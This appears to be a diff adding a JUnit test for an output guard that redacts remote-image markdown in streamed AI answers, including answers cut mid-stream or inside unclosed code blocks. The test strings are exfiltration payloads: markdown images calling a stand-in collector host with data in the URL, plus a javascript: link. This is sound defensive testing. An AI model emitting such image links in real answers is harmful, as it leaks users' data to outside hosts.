@@ -140,6 +140,26 @@ class StreamedAnswerTest {
         }
     }
 
+    /**
+     * Markup written as an example in code renders as text, so it passes — once the block or span has closed: until
+     * then it is held, and an answer that ends inside the block gets it redacted (some renderers show an unclosed block
+     * as a paragraph). However the stream is cut, markup after the code never leaves in part.
+     */
+    @org.junit.jupiter.params.ParameterizedTest(name = "window {0}")
+    @org.junit.jupiter.params.provider.ValueSource(ints = {0, 64})
+    void markupInCodeStreamsWholeOnceTheCodeCloses(int window) {
+        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
+                new GuardPolicy.Output(null, null, null, window, null, null, null, null, Action.REDACT), null));
+        String code = "To embed it:\n```markdown\n# Report\n\n![chart](https://charts.example.net/q3.png \"Q3\")\n"
+                + "<img src=\"https://charts.example.net/logo.png\">\n[Docs](javascript:void(0))\n```\n"
+                + "Or inline: `![chart](https://charts.example.net/q3.png)`.\n";
+        assertDecidedHoweverCut(guard, code + "Now: ![x](https://collector.example.net/?d=revenue) end.",
+                code + "Now: [REMOTE_IMAGE] end.", "collector", "revenue");
+        // the answer ends inside the block: never closed, so not code to every renderer
+        assertDecidedHoweverCut(guard, "```\n![x](https://collector.example.net/?d=revenue)\nmore", "```\n[REMOTE_IMAGE]\nmore", "collector");
+        assertDecidedHoweverCut(guard, "Say `![x](https://collector.example.net/?d=revenue) to", "Say `[REMOTE_IMAGE] to", "collector");
+    }
+
     /** A link that runs script in the page that renders the answer, with the user's session; ordinary links flow. */
     @Test
     void aScriptLinkSplitAcrossChunksNeverLeavesInPartAndOrdinaryLinksPass() {
